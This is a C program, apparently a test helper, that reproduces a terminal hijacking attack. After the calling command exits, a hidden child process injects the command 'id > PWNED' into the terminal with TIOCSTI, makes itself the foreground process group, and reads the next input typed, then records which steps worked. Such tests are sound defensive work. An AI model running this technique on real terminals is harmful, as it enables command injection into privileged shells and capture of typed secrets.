/* What a hostile command does to the terminal it was started from: it forks, and the child waits
 * until the command has exited (its parent changes), then
 *   1. pushes "id > PWNED\n" into the terminal's input with TIOCSTI, one byte at a time;
 *   2. makes itself the terminal's foreground process group (tcsetpgrp) and reads what is typed
 *      next (for up to 4 s).
 * Usage: tty_attack REPORT PWNED. The child writes one line to REPORT:
 *   tiocsti=ok|<errno name> tcsetpgrp=ok|<errno name> read=<bytes read, \n as |>|<errno>|timeout
 * after creating REPORT.grab when it starts to read.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static const char *result(int rc) { return rc == 0 ? "ok" : strerrorname_np(errno); }

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  /* A real attacker survives the hangup and does not stop when it touches the terminal from
   * the background (set before the fork: the hangup may come as soon as the parent exits). */
  signal(SIGHUP, SIG_IGN);
  signal(SIGTTOU, SIG_IGN);
  signal(SIGTTIN, SIG_IGN);
  pid_t parent = getpid();
  pid_t child = fork();
  if (child < 0) return 3;
  if (child > 0) {
    printf("attack armed\n");
    return 0;
  }
  for (int i = 0; i < 500 && getppid() == parent; ++i) usleep(10000);
  usleep(300000);

  char cmd[4200];
  snprintf(cmd, sizeof cmd, "id > %s\n", argv[2]);
  int sti = 0;
  for (const char *c = cmd; *c; ++c)
    if (ioctl(0, TIOCSTI, c) != 0) {
      sti = -1;
      break;
    }
  char sti_text[64];
  snprintf(sti_text, sizeof sti_text, "%s", result(sti));
  /* Let root's shell run what was pushed before trying the next attack. */
  usleep(1000000);

  int pg = tcsetpgrp(0, getpgrp());
  char pg_text[64];
  snprintf(pg_text, sizeof pg_text, "%s", result(pg));

  /* Tell the test that whatever it types now is what the attacker would read. */
  char marker[4200];
  snprintf(marker, sizeof marker, "%s.grab", argv[1]);
  FILE *m = fopen(marker, "w");
  if (m) fclose(m);

  char got[512] = "timeout";
  struct pollfd p = {0, POLLIN, 0};
  int ready = poll(&p, 1, 4000);
  if (ready > 0) {
    char buf[256];
    ssize_t n = read(0, buf, sizeof buf - 1);
    if (n < 0) {
      snprintf(got, sizeof got, "%s", strerrorname_np(errno));
    } else {
      buf[n] = 0;
      for (char *c = buf; *c; ++c)
        if (*c == '\n' || *c == '\r') *c = '|';
      snprintf(got, sizeof got, "<%s>", buf);
    }
  } else if (ready < 0) {
    snprintf(got, sizeof got, "%s", strerrorname_np(errno));
  }
  FILE *report = fopen(argv[1], "w");
  if (!report) return 4;
  fprintf(report, "tiocsti=%s tcsetpgrp=%s read=%s\n", sti_text, pg_text, got);
  fclose(report);
  return 0;
}
